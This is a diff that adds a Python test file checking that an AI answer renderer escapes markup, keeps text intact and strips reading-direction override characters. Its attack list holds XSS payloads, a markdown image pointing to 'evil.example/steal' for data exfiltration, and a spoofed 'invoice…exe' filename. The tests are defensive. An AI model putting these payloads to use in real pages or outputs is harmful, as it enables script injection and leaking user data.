@@ -1,0 +1,92 @@
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ui import plain
+
+OURS = {"div", "p", "ul", "ol", "li", "br", "strong", "code", "span"}
+UGLY = st.text(alphabet=st.sampled_from("<>&\"'[]()!*`#-1.$:/ \n\tabx\u202e\x00\ud800"), max_size=200) | st.text()
+
+
+class Tags(HTMLParser):
+    """What a browser would make of it."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.open: list[str] = []
+        self.attributes: set[str] = set()
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes |= {f"{name}={value}" for name, value in attrs}
+        if tag != "br":
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+@given(UGLY)
+def test_an_answer_never_brings_a_tag_or_an_attribute_of_its_own(text: str) -> None:
+    seen = Tags(plain.answer(text, {1, 11}))
+    assert set(seen.tags) <= OURS
+    assert seen.attributes <= {"class=answer", "class=marker"}
+    assert seen.open == []
+
+
+@given(UGLY)
+def test_text_keeps_every_visible_character(text: str) -> None:
+    seen = Tags(plain.paragraphs(text))
+    assert seen.tags == ["div"]
+    assert seen.words == plain.visible(text.strip()).replace("\r", " ")
+
+
+@given(UGLY, UGLY)
+def test_a_title_cannot_leave_its_attribute(text: str, title: str) -> None:
+    assert Tags(plain.tag("span", text, "name", title=title)).tags == ["span"]
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "![x](http://evil.example/steal?q=1)",
+        "[click](http://evil.example)",
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "$\\latex$",
+        ":material/delete: :red[x] :smile:",
+        "www.evil.example and http://evil.example",
+    ],
+)
+def test_markup_from_a_model_is_shown_as_it_was_written(attack: str) -> None:
+    seen = Tags(plain.answer(attack))
+    assert seen.words == attack
+    assert seen.tags == ["div", "p"]
+
+
+def test_only_numbers_that_stand_for_a_source_become_badges() -> None:
+    shown = plain.answer("Oil [1], water [2], both [1, 2], nothing [1, 9].", {1, 2})
+    assert shown.count('<span class="marker">1</span>') == 2
+    assert shown.count('<span class="marker">2</span>') == 2
+    assert "[1, 9]" in shown
+
+
+def test_lists_and_bold_look_like_lists_and_bold() -> None:
+    shown = plain.answer("Two things:\n- **oil**, `4.5`\n- water\n\nThat is all.")
+    assert shown == (
+        '<div class="answer"><p>Two things:</p><ul><li><strong>oil</strong>, <code>4.5</code></li>'
+        "<li>water</li></ul><p>That is all.</p></div>"
+    )
+
+
+def test_marks_that_turn_the_reading_direction_are_dropped_from_names() -> None:
+    assert plain.visible("invoice\u202efdp.exe") == "invoicefdp.exe"
